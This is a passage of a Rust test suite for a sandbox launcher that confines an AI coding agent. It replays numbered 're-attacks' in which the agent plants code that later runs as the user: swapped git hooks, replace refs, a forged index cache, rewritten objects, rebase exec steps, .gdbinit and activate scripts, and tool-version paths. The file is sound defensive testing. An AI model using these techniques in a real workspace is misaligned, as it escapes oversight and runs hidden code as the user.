fn a_terminal_the_agent_leaves_stopped_and_non_blocking_does_not_end_the_launcher() {
    let rig = LaunchRig::new();
    let (work, bashrc) = rig.committed_workspace();
    let script = format!(
        "#!/bin/sh\nrm -f .git/logs/HEAD && ln -s '{}' .git/logs/HEAD\npython3 -c 'import os, fcntl, termios; \
         fcntl.fcntl(2, fcntl.F_SETFL, fcntl.fcntl(2, fcntl.F_GETFL) | os.O_NONBLOCK); termios.tcflow(2, \
         termios.TCOOFF)'\n",
        bashrc.display()
    );
    claude_runs(&rig, script);
    let terminal = nix::pty::openpty(None, None).unwrap();
    let mut launch = rig.command_at(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    launch
        .stdin(std::process::Stdio::from(terminal.slave.try_clone().unwrap()))
        .stdout(std::process::Stdio::from(terminal.slave.try_clone().unwrap()))
        .stderr(std::process::Stdio::from(terminal.slave.try_clone().unwrap()));
    // The terminal is the launcher's controlling terminal, as a shell's is.
    // SAFETY: setsid and an ioctl on descriptor 0, in the child before exec.
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut launch, || {
            nix::unistd::setsid()?;
            if libc::ioctl(0, libc::TIOCSCTTY, 0) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = crate::support::KillOnDrop(launch.spawn().unwrap());
    drop((launch, terminal.slave));
    let main = std::fs::File::from(terminal.master);
    nix::fcntl::fcntl(&main, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK)).unwrap();
    let mut heard = Vec::new();
    let read = |heard: &mut Vec<u8>| {
        let mut buffer = [0u8; 4096];
        while let Ok(n @ 1..) = std::io::Read::read(&mut &main, &mut buffer) {
            heard.extend_from_slice(&buffer[..n]);
        }
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let status = loop {
        read(&mut heard);
        if let Some(status) = child.0.try_wait().unwrap() {
            break Some(status);
        }
        if std::time::Instant::now() > deadline {
            break None;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    read(&mut heard);
    let heard = String::from_utf8_lossy(&heard).into_owned();
    assert_eq!(status.and_then(|status| status.code()), Some(0), "the launcher was stopped or ended\n{heard}");
    assert!(std::fs::symlink_metadata(work.join(".git/logs/HEAD")).is_err(), "the link stayed\n{heard}");
    assert!(heard.contains(".git/logs/HEAD"), "{heard}");
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# the user's\n");
    // The alternate screen left first (it puts back the colours the agent saved on entering it:
    // black on black again), then the colours reset, before any warning.
    let reset = heard.find("\x1b[?1049l\x1b(B\x0f\x1b[0m").expect("the terminal is reset");
    assert!(heard.find("aileron: warning").is_some_and(|warning| warning > reset), "{heard:?}");
}

/// The fifteenth re-attack: `git replace` swapped the tip of the user's branch for a commit
/// carrying the agent's `Makefile`; `git status`, `diff` and `log` stayed clean and the user's
/// next commit ran and kept it. Replace refs (and grafts) the agent makes are moved aside the
/// moment they appear.
#[test]
fn replace_refs_the_agent_makes_are_moved_aside() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let script = "#!/bin/sh\nhead=$(git rev-parse HEAD)\nother=$(git -c user.name=a -c user.email=a@x commit-tree -m other \"$head^{tree}\")\n\
                  git replace \"$head\" \"$other\"\nsleep 1\nmkdir -p .git/info && echo \"$head\" > .git/info/grafts\n\
                  sleep 1\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let refs = Command::new("git").args(["for-each-ref", "refs/replace"]).current_dir(&work).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&refs.stdout), "", "{said}");
    assert!(!work.join(".git/info/grafts").exists(), "{said}");
    assert!(said.contains(".git/refs/replace") && said.contains(".git/info/grafts"), "{said}");
}

/// The seventh re-attack: `.git/hooks` a link to the project's tracked `githooks/` (a common
/// layout). The bind made `githooks/` read-only, but the link itself was an entry the agent could
/// replace with a directory of hooks of its own, which the user's next commit ran. The launcher
/// puts the link back and keeps what the agent put there in the quarantine.
#[test]
fn a_hooks_link_the_agent_replaces_is_put_back() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    assert!(Command::new("git").args(["init", "-q"]).current_dir(&work).status().unwrap().success());
    std::fs::create_dir_all(work.join("githooks")).unwrap();
    std::fs::write(work.join("githooks/pre-commit"), "#!/bin/sh\necho lint ok\n").unwrap();
    std::fs::remove_dir_all(work.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("../githooks", work.join(".git/hooks")).unwrap();
    let script = "#!/bin/sh\nrm .git/hooks && mkdir .git/hooks && printf '#!/bin/sh\\ntouch pwned\\n' > \
                  .git/hooks/pre-commit\nsleep 1\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert_eq!(std::fs::read_link(work.join(".git/hooks")).unwrap(), Path::new("../githooks"), "{said}");
    assert_eq!(std::fs::read_to_string(work.join("githooks/pre-commit")).unwrap(), "#!/bin/sh\necho lint ok\n");
    assert!(said.contains("replaced your link"), "{said}");
}

/// The thirty-fifth re-attack's G13: `githooks/` (the hooks `.git/hooks` links to) is read-only
/// to the agent, but the objects and the index are its to write: it commits its own version of
/// the hook without touching the file. `git status` then shows the file "modified", and the
/// user's `git restore` (or `stash`, `checkout`, `reset --hard`) writes the agent's hook into it.
/// The exit names the file, and the session's end record lists it.
#[test]
fn another_version_of_a_file_the_agent_could_not_write_committed_is_named_at_exit() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    assert!(git(&["init", "-q"]));
    std::fs::create_dir_all(work.join("githooks")).unwrap();
    std::fs::write(work.join("githooks/pre-commit"), "#!/bin/sh\necho lint ok\n").unwrap();
    std::fs::write(work.join("notes.md"), "notes\n").unwrap();
    assert!(git(&["add", "-A"]));
    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "first"]));
    std::fs::remove_dir_all(work.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("../githooks", work.join(".git/hooks")).unwrap();
    let script = "#!/bin/sh\nid=$(printf '#!/bin/sh\\ntouch pwned\\n' | git hash-object -w --stdin)\ngit \
                  update-index --cacheinfo 100755,$id,githooks/pre-commit\necho more >> notes.md\ngit add notes.md\ngit \
                  -c user.name=a -c user.email=a@x commit -qm work\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let hook = work.join("githooks/pre-commit");
    assert_eq!(std::fs::read_to_string(&hook).unwrap(), "#!/bin/sh\necho lint ok\n", "{said}");
    assert!(said.contains("staged or committed another version of 1 file(s) it could not write"), "{said}");
    assert!(said.contains(&hook.display().to_string()), "{said}");
    assert!(!said.contains("notes.md"), "what it could write is its work, not named: {said}");
    let ended = rig.run(&["audit", "list", "--json", "--event-type", "session.ended"], &[]);
    let ended: Value = serde_json::from_slice(&ended.stdout).unwrap();
    let listed = &ended["items"][0]["payload"]["aileron.session.hidden_changes"];
    assert_eq!(*listed, serde_json::json!([hook.display().to_string()]), "{ended:#}");
    // The route itself: the user's restore writes the agent's hook.
    assert!(git(&["restore", "githooks/pre-commit"]));
    assert!(std::fs::read_to_string(&hook).unwrap().contains("pwned"));
}

/// The thirty-sixth re-attack's H13: the agent gives the user's index the cached trees (`TREE`)
/// of an index of its own whose hook is its own, beside the user's entries. `git status` shows
/// nothing, and the user's next `git add notes.md; git commit` would commit the agent's hook. At
/// the exit the cache is found untrue, dropped and said; the user's commit is the user's.
#[test]
fn an_index_whose_cached_trees_are_the_agents_is_dropped_at_exit() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let git_in = |args: &[&str], index: Option<&Path>| {
        let mut command = Command::new("git");
        command.args(["-c", "user.name=u", "-c", "user.email=u@x"]).args(args).current_dir(&work);
        if let Some(index) = index {
            command.env("GIT_INDEX_FILE", index);
        }
        let output = command.output().unwrap();
        assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap().trim().to_string()
    };
    git_in(&["init", "-q"], None);
    std::fs::create_dir_all(work.join("githooks")).unwrap();
    std::fs::write(work.join("githooks/pre-commit"), "#!/bin/sh\necho lint ok\n").unwrap();
    std::fs::write(work.join("notes.md"), "notes\n").unwrap();
    git_in(&["add", "-A"], None);
    git_in(&["commit", "-qm", "first"], None);
    // The agent's index: the user's tree with its own hook, its cached trees made by git.
    let scratch = rig.temp.path().join("their-index");
    git_in(&["read-tree", "HEAD"], Some(&scratch));
    let hook = rig.temp.path().join("hook");
    std::fs::write(&hook, "#!/bin/sh\ntouch pwned\n").unwrap();
    let hook = git_in(&["hash-object", "-w", &hook.display().to_string()], None);
    git_in(&["update-index", "--cacheinfo", &format!("100755,{hook},githooks/pre-commit")], Some(&scratch));
    git_in(&["write-tree"], Some(&scratch));
    // Both indexes hold entries of the same names, so their extensions begin at one place.
    let (mine, theirs) = (std::fs::read(work.join(".git/index")).unwrap(), std::fs::read(&scratch).unwrap());
    let tree_at = |index: &[u8]| {
        let at = index.windows(4).position(|bytes| bytes == b"TREE").unwrap();
        at..at + 8 + u32::from_be_bytes(index[at + 4..at + 8].try_into().unwrap()) as usize
    };
    let (at, tree) = (tree_at(&mine), tree_at(&theirs));
    let mut forged = [&mine[..at.start], &theirs[tree], &mine[at.end..mine.len() - 20]].concat();
    let checksum = ring::digest::digest(&ring::digest::SHA1_FOR_LEGACY_USE_ONLY, &forged);
    forged.extend_from_slice(checksum.as_ref());
    std::fs::write(work.join(".forged-index"), forged).unwrap();
    claude_runs(&rig, "#!/bin/sh\nmv .forged-index .git/index\n");
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("cached trees that are not what its entries make"), "{said}");
    assert!(said.contains(&work.join("githooks").display().to_string()), "{said}");
    assert!(said.contains("the cache was dropped"), "{said}");
    assert_eq!(git_in(&["status", "--porcelain"], None), "");
    std::fs::write(work.join("notes.md"), "more\n").unwrap();
    git_in(&["add", "notes.md"], None);
    git_in(&["commit", "-qm", "mine"], None);
    assert_eq!(git_in(&["show", "HEAD:githooks/pre-commit"], None), "#!/bin/sh\necho lint ok", "{said}");
}

/// The thirty-ninth re-attack's K1: the agent rewrites the user's loose object of a committed
/// file (git never checks a loose object against its name), so the user's next checkout of it
/// writes the agent's content; nothing else changes. The object file is moved aside and said.
#[test]
fn a_loose_object_rewritten_in_place_is_moved_aside_at_exit() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    std::fs::write(work.join("README.md"), "the user's\n").unwrap();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    assert!(git(&["add", "README.md"]) && git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "r"]));
    let id = Command::new("git").args(["rev-parse", "HEAD:README.md"]).current_dir(&work).output().unwrap();
    let id = String::from_utf8(id.stdout).unwrap().trim().to_string();
    assert_eq!(id.len(), 40, "a committed README.md");
    let object = work.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
    assert!(object.exists(), "loose");
    let script = format!(
        "#!/bin/sh\npython3 -c 'import zlib,os\nbody=b\"pwned\\n\"\nd=zlib.compress(b\"blob %d\\0\" % len(body) + \
         body)\nopen(\".git/objects/new\",\"wb\").write(d)\nos.rename(\".git/objects/new\",\"{}\")'\n",
        object.display()
    );
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(
        said.contains("rewrote 1 object file(s) of git's so that they no longer hold what their names say"),
        "{said}"
    );
    assert!(!object.exists(), "moved aside: {said}");
}

/// The thirty-sixth re-attack's H19: a rebase left in progress whose merge strategy is a path
/// (`../../scripts/x.sh`): git runs `git-merge-<strategy>` as a program of the worktree's at the
/// user's `git rebase --continue`. It is moved aside at the exit, and the user is told.
#[test]
fn a_rebase_strategy_named_by_a_path_is_moved_aside_and_said() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let script = "#!/bin/sh\nmkdir -p .git/rebase-merge\necho ../../scripts/helper.sh > .git/rebase-merge/strategy\n\
                  echo ort > .git/rebase-merge/strategy_opts\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(!work.join(".git/rebase-merge/strategy").exists(), "{said}");
    assert!(work.join(".git/rebase-merge/strategy_opts").exists(), "{said}");
    assert!(said.contains(".git/rebase-merge/strategy, which would run what it chose as you; moved to"), "{said}");
}

/// The re-attack of 2026-12-05 (F9): a launcher killed with `kill -9` left its agent running,
/// with nothing watching for the files it plants. The helper holds a pipe only the launcher
/// writes to; when the launcher is gone it ends the agent's namespace, every process in it.
#[test]
fn a_killed_launcher_takes_its_agent_with_it() {
    let rig = LaunchRig::new();
    let started = rig.workspace().join("started");
    let sleeper = format!("sleep {}", 86_000 + std::process::id() % 1000);
    let script = format!("#!/bin/sh\ntouch '{}'\nexec {sleeper}\n", started.display());
    claude_runs(&rig, script);
    let mut launcher = crate::support::KillOnDrop(
        rig.command_at(&rig.workspace(), &["launch", "claude"], Some(Path::new("/usr/bin")), &[]).spawn().unwrap(),
    );
    let running = || {
        let found = Command::new("pgrep").args(["-f", &format!("^{sleeper}$")]).output().unwrap();
        found.status.success()
    };
    /// Ends an agent that outlived its launcher (a failure here), which would otherwise keep the
    /// test harness's output open.
    struct EndAgent(String);
    impl Drop for EndAgent {
        fn drop(&mut self) {
            let _ = Command::new("pkill").args(["-KILL", "-f", &format!("^{}$", self.0)]).status();
        }
    }
    let _end = EndAgent(sleeper.clone());
    let since = std::time::Instant::now();
    while !(started.exists() && running()) {
        assert!(since.elapsed() < std::time::Duration::from_secs(60), "the agent never started");
        assert!(launcher.0.try_wait().unwrap().is_none(), "the launch ended early");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(launcher.0.id() as i32), nix::sys::signal::Signal::SIGKILL)
        .unwrap();
    launcher.0.wait().unwrap();
    let since = std::time::Instant::now();
    while running() {
        assert!(since.elapsed() < std::time::Duration::from_secs(10), "the agent outlived its launcher by 10 s");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    // Its session ends too (the daemon watched the launcher): token revoked, the end on record.
    let since = std::time::Instant::now();
    loop {
        let ended = rig.run(&["audit", "list", "--json", "--event-type", "session.ended"], &[]);
        let ended: Value = serde_json::from_slice(&ended.stdout).unwrap();
        if let Some(record) = ended["items"].as_array().and_then(|items| items.first()) {
            assert_eq!(record["payload"]["aileron.session.end_reason"], "launcher_gone", "{record:#}");
            assert_eq!(record["payload"]["aileron.session.exit_code"], Value::Null, "{record:#}");
            break;
        }
        assert!(since.elapsed() < std::time::Duration::from_secs(10), "the session outlived its launcher by 10 s");
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let status = rig.run(&["status", "--json"], &[]);
    let status: Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(status["sessions"], serde_json::json!([]), "{status:#}");
}

/// The home the user's account names (its passwd entry's) is covered too when `HOME` is another
/// directory (as in these tests, after `sudo -E`, in a container's `HOME=/workspace`): the
/// agent sees of it only what the read list, its toolchains and its programs keep, as of `HOME`
/// (the re-attacks of stop 98 read it whole). The tools on `PATH` that live there still run.
#[test]
fn the_accounts_own_home_is_covered_when_home_is_elsewhere() {
    let rig = LaunchRig::new();
    // SAFETY: getpwuid returns a pointer into static storage, read at once, or null.
    let account = unsafe {
        let entry = libc::getpwuid(libc::getuid());
        assert!(!entry.is_null(), "this account has no passwd entry");
        PathBuf::from(std::ffi::CStr::from_ptr((*entry).pw_dir).to_str().unwrap())
    };
    let account = std::fs::canonicalize(&account).unwrap();
    assert!(!rig.user_home().starts_with(&account) && account != Path::new("/"), "{}", account.display());
    let report = rig.report();
    let script = format!(
        "#!/usr/bin/env python3\nimport json, os, subprocess\n\
         seen = {{'listing': sorted(os.listdir('{account}')), 'git': subprocess.run(['git', '--version'], \
         capture_output=True, text=True).stdout.strip()}}\nopen('{report}', 'w').write(json.dumps(seen))\n",
        account = account.display(),
        report = report.display()
    );
    claude_runs(&rig, script);
    let output = rig.command_in(&rig.workspace(), &["launch", "claude"], None, &[]);
    assert!(output.status.success(), "{}", text(&output));
    let seen: Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert!(seen["git"].as_str().unwrap().starts_with("git version"), "{seen:#}");
    let started = rig.run(&["audit", "list", "--json", "--event-type", "session.started"], &[]);
    let started: Value = serde_json::from_slice(&started.stdout).unwrap();
    let home_seen: Vec<PathBuf> = started["items"][0]["payload"]["aileron.session.home_seen"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .map(PathBuf::from)
        .collect();
    let kept: std::collections::BTreeSet<String> = home_seen
        .iter()
        .filter_map(|path| path.strip_prefix(&account).ok())
        .filter_map(|relative| relative.components().next())
        .map(|first| first.as_os_str().to_string_lossy().into_owned())
        .collect();
    let listing: Vec<String> =
        seen["listing"].as_array().unwrap().iter().filter_map(Value::as_str).map(String::from).collect();
    for name in &listing {
        assert!(kept.contains(name), "{name} of {} in the agent's sight, not kept: {kept:?}", account.display());
    }
    let everything: Vec<String> = std::fs::read_dir(&account)
        .unwrap()
        .flatten()
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .collect();
    let hidden: Vec<&String> = everything.iter().filter(|name| !kept.contains(*name)).collect();
    eprintln!("of {}: kept {kept:?}; out of sight {hidden:?}", account.display());
}

/// The twenty-third re-attack: with `~/.config` a link into the agent's workspace (a dotfiles
/// repository), the directories pinned on the way to what is protected inside it (`Code/User`
/// above `settings.json`, `containers` above a hidden login) stayed writable mounts inside the
/// read-only `config`, and the agent wrote VS Code's and podman's configs there. Nothing inside
/// the user's linked configuration is the agent's to write, however deep.
#[test]
fn the_users_linked_configuration_is_read_only_to_its_depths() {
    let rig = LaunchRig::new();
    let home = rig.user_home();
    let dotfiles = home.join("dotfiles");
    for file in ["config/Code/User/settings.json", "config/containers/auth.json", "config/tool/deep/x.conf"] {
        std::fs::create_dir_all(dotfiles.join(file).parent().unwrap()).unwrap();
        std::fs::write(dotfiles.join(file), "{}").unwrap();
    }
    std::os::unix::fs::symlink("dotfiles/config", home.join(".config")).unwrap();
    let report = dotfiles.join("report.json");
    let script = format!(
        "#!/usr/bin/env python3\nimport json, os\nhome = os.environ['HOME']\n\
         def write(relative):\n    try:\n        open(os.path.join(home, relative), 'w').write('x')\n        return 'written'\n\
         \x20   except OSError as error:\n        return type(error).__name__\n\
         seen = {{name: write(name) for name in ('dotfiles/config/Code/User/keybindings.json', 'dotfiles/config/containers/storage.conf',\n\
         \x20   'dotfiles/config/tool/deep/y.conf', 'dotfiles/config/new.conf', 'dotfiles/notes.md')}}\n\
         open('{}', 'w').write(json.dumps(seen))\n",
        report.display()
    );
    claude_runs(&rig, script);
    let output = rig.command_in(&dotfiles, &["launch", "claude"], None, &[]);
    assert!(output.status.success(), "{}", text(&output));
    let seen: Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert_eq!(seen["dotfiles/notes.md"], "written", "the workspace is the agent's: {seen:#}");
    for refused in [
        "dotfiles/config/Code/User/keybindings.json",
        "dotfiles/config/containers/storage.conf",
        "dotfiles/config/tool/deep/y.conf",
        "dotfiles/config/new.conf",
    ] {
        assert_ne!(seen[refused], "written", "{refused}: {seen:#}");
        assert!(!home.join(refused).exists(), "{refused}");
    }
}

/// The thirty-fourth re-attack's F9: the agent stopped a rebase of its own (`break`) and appended an
/// `exec` step, and the user's `git rebase --continue` after the session ran it outside the launch.
/// Steps that run commands added while the agent ran are taken out (left as comments), the list
/// as it was kept in the quarantine, and the user is told; the rebase itself goes on.
#[test]
fn a_rebase_left_in_progress_runs_no_command_the_agent_added() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let script = "#!/bin/sh\nset -e\nfor n in 2 3; do echo $n > f$n; git add f$n; git -c user.name=a -c user.email=a@x commit -qm c$n; done\n\
                  GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git -c user.name=a -c user.email=a@x rebase -i -q HEAD~2\n\
                  echo 'exec touch pwned' >> .git/rebase-merge/git-rebase-todo\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("left a rebase in progress whose next steps run commands (exec touch pwned)"), "{said}");
    let todo = std::fs::read_to_string(work.join(".git/rebase-merge/git-rebase-todo")).unwrap();
    assert!(todo.contains("# aileron: written while an agent ran, taken out: exec touch pwned"), "{todo}");
    let continued = Command::new("git")
        .args(["-c", "user.name=u", "-c", "user.email=u@x", "rebase", "--continue"])
        .current_dir(&work)
        .output()
        .unwrap();
    assert!(continued.status.success(), "{}", text(&continued));
    assert!(!work.join("pwned").exists(), "the agent's step ran");
    assert!(work.join("f3").exists(), "the rebase went on");
}

/// The thirty-fourth re-attack's F6 and the thirty-fifth's G3: with `set auto-load safe-path /` in
/// the user's `~/.gdbinit`, gdb runs the `.gdbinit` of the directory it starts in; the agent made
/// one in a directory of the project. What the user's settings trust there, made while the agent
/// ran, is moved to the quarantine at its end (at the top, at once), and the user is told; a tree
/// the agent made too large to look through is said to be so. One it also committed (the
/// thirty-sixth re-attack's H18: the user's `git restore` would write it back) is named.
#[test]
fn project_files_the_users_tools_trust_made_by_the_agent_are_moved_aside() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    std::fs::write(rig.user_home().join(".gdbinit"), "set auto-load safe-path /\n").unwrap();
    let script = "#!/bin/sh\nmkdir -p svc\necho 'shell touch pwned' > svc/.gdbinit\necho 'shell touch pwned' > \
                  .gdbinit\ngit add svc/.gdbinit\ngit -c user.name=a -c user.email=a@x commit -qm tools\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(!work.join("svc/.gdbinit").exists() && !work.join(".gdbinit").exists(), "{said}");
    assert!(said.contains("svc/.gdbinit, which would run what it chose as you; moved to"), "{said}");
    assert!(!said.contains("not all of it was looked through"), "{said}");
    let committed = format!(
        "staged or committed another version of 1 file(s) it could not write or make (in the index, or in a commit it made: on a branch, in a stash, in a rebase or merge left in progress, or not named yet): {}",
        work.join("svc/.gdbinit").display()
    );
    assert!(said.contains(&committed), "{said}");
    let restored = Command::new("git").args(["restore", "svc/.gdbinit"]).current_dir(&work).status().unwrap();
    assert!(restored.success() && work.join("svc/.gdbinit").exists(), "the route: the user's restore writes it");
    std::fs::remove_file(work.join("svc/.gdbinit")).unwrap();

    // The thirty-sixth re-attack's H11: a directory filled past the look's budget so that it ends
    // before the one planted in. What it could not look through is said.
    let script = "#!/bin/sh\nmkdir -p svc out\necho 'shell touch pwned' > svc/.gdbinit\npython3 -c 'import os\nfor n in \
                  range(100001): open(\"out/%06d\" % n, \"w\").close()'\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let warned = format!("{} holds more than 100000 entries, so not all of it was looked through", work.display());
    assert!(said.contains("compiled Python in `__pycache__`"), "the forty-fifth re-attack's R3: {said}");
    assert!(said.contains(&warned), "{said}");
    // The thirty-eighth re-attack's J6: too large already at launch, it is said then.
    claude_runs(&rig, "#!/bin/sh\ntrue\n");
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let noted = format!("{} holds more than 100000 entries, so not all of it is looked through", work.display());
    assert!(said.contains(&noted), "{said}");
    std::fs::remove_dir_all(work.join("out")).unwrap();
}

/// The thirty-sixth re-attack's H25: the user's `cd` sources `.venv/bin/activate` of whatever
/// directory it enters. A virtual environment the agent made two directories down is moved aside
/// at the end (its `activate` would run as the user at the next `cd` there), and one there at
/// launch at any depth stays the user's.
#[test]
fn an_activate_script_the_users_cd_sources_made_anywhere_by_the_agent_is_moved_aside() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    std::fs::write(
        rig.user_home().join(".bashrc"),
        "cd() { builtin cd \"$@\" && [ -f .venv/bin/activate ] && source .venv/bin/activate; }\n",
    )
    .unwrap();
    std::fs::create_dir_all(work.join("services/api/.venv/bin")).unwrap();
    std::fs::write(work.join("services/api/.venv/bin/activate"), "export VIRTUAL_ENV=x\n").unwrap();
    let script = "#!/bin/sh\nmkdir -p tools/cli/.venv/bin\necho 'touch ~/pwned' > tools/cli/.venv/bin/activate\n\
                  echo 'touch ~/pwned' >> services/api/.venv/bin/activate || true\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(!work.join("tools/cli/.venv/bin/activate").exists(), "{said}");
    assert!(said.contains("tools/cli/.venv/bin/activate, which would run what it chose as you; moved to"), "{said}");
    let kept = std::fs::read_to_string(work.join("services/api/.venv/bin/activate")).unwrap();
    assert_eq!(kept, "export VIRTUAL_ENV=x\n", "{said}");
}

/// The thirty-fourth re-attack's F12: a `.tool-versions` line that runs a tool from a directory
/// (`node path:…/.cache/n`) needs no trust in mise or asdf, and the user's next `node` in the
/// project ran the agent's. What the agent added so is taken out at its end; the user's lines stay.
#[test]
fn a_tool_version_run_from_the_project_that_the_agent_added_is_taken_out() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    std::fs::write(work.join(".tool-versions"), "python 3.12.1 path:/opt/python\n").unwrap();
    std::fs::set_permissions(work.join(".tool-versions"), std::fs::Permissions::from_mode(0o600)).unwrap();
    let script = "#!/bin/sh\nmkdir -p .cache/n/bin svc\necho \"node path:$PWD/.cache/n\" >> .tool-versions\n\
                  echo \"node path:$PWD/.cache/n\" > svc/.tool-versions\necho \"path:$PWD/.cache/n\" > .nvmrc\n\
                  echo \"java=path:$PWD/.cache/j\" > .sdkmanrc\necho \"path:./.cache/g\" > svc/.go-version\n\
                  echo \"path:./.cache/t\" > .terraform-version\necho \"path:./.cache/d\" > svc/.deno-version\n\
                  printf '[toolchain]\\nchannel = \"stable\"\\npath = \"%s/target/.tc\"\\n' \"$PWD\" > rust-toolchain.toml\n\
                  printf 'toolchain = { path = \"../target/.tc\" }\\n' > svc/rust-toolchain\n\
                  mkdir -p containers/web\necho \"node path:$PWD/.cache/n\" > containers/web/.tool-versions\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("a tool to run from a directory of the project (node path:"), "{said}");
    let versions = std::fs::read_to_string(work.join(".tool-versions")).unwrap();
    let mut lines = versions.lines();
    assert_eq!(lines.next(), Some("python 3.12.1 path:/opt/python"), "the user's own line stays: {versions}");
    assert!(
        lines.next().unwrap().starts_with("# aileron: written while an agent ran, taken out: node path:"),
        "{versions}"
    );
    let mode = std::fs::metadata(work.join(".tool-versions")).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode, 0o600, "written again with the mode it had");
    // Below the top too (the thirty-fifth re-attack's G7).
    let below = std::fs::read_to_string(work.join("svc/.tool-versions")).unwrap();
    assert!(below.starts_with("# aileron: written while an agent ran, taken out: node path:"), "{below}");
    // mise's idiomatic version files too (G17).
    let nvmrc = std::fs::read_to_string(work.join(".nvmrc")).unwrap();
    assert!(nvmrc.starts_with("# aileron: written while an agent ran, taken out: path:"), "{nvmrc}");
    // And the others mise reads (the fortieth re-attack's L9).
    // (In a project's `containers/` too, a name the home's walks skip: the forty-fourth re-attack's Q5.)
    for file in [
        ".sdkmanrc",
        "svc/.go-version",
        ".terraform-version",
        "svc/.deno-version",
        "svc/rust-toolchain",
        "containers/web/.tool-versions",
    ] {
        let kept = std::fs::read_to_string(work.join(file)).unwrap();
        assert!(kept.starts_with("# aileron: written while an agent ran, taken out: "), "{file}: {kept}");
    }
    // rustup's toolchain named by its directory (the forty-fourth re-attack's Q8); its channel stays.
    let toolchain = std::fs::read_to_string(work.join("rust-toolchain.toml")).unwrap();
    assert!(
        toolchain.starts_with(
            "[toolchain]\nchannel = \"stable\"\n# aileron: written while an agent ran, taken out: path = "
        ),
        "{toolchain}"
    );
}

/// The fortieth re-attack's L8, L4 and L5: patterns added to the repository's own ignore list hid
/// a new `tests/conftest.py` from `git status` (the user's `pytest` ran it), a `git am` left in
/// progress held a patch to a protected hook, and a recorded conflict resolution (its directory's
/// existence turns rerere on) held the agent's hook for the next conflicting merge. The patterns
/// are taken out (the user's own stay), and the `am` and the resolutions moved aside, each said.
#[test]
fn git_state_that_hides_or_replays_the_agents_work_is_undone() {
    let rig = LaunchRig::new();
    let (work, _) = rig.committed_workspace();
    let exclude = work.join(".git/info/exclude");
    std::fs::create_dir_all(exclude.parent().unwrap()).unwrap();
    std::fs::write(&exclude, "# git's own comment\n*.log\n").unwrap();
    let attributes = work.join(".git/info/attributes");
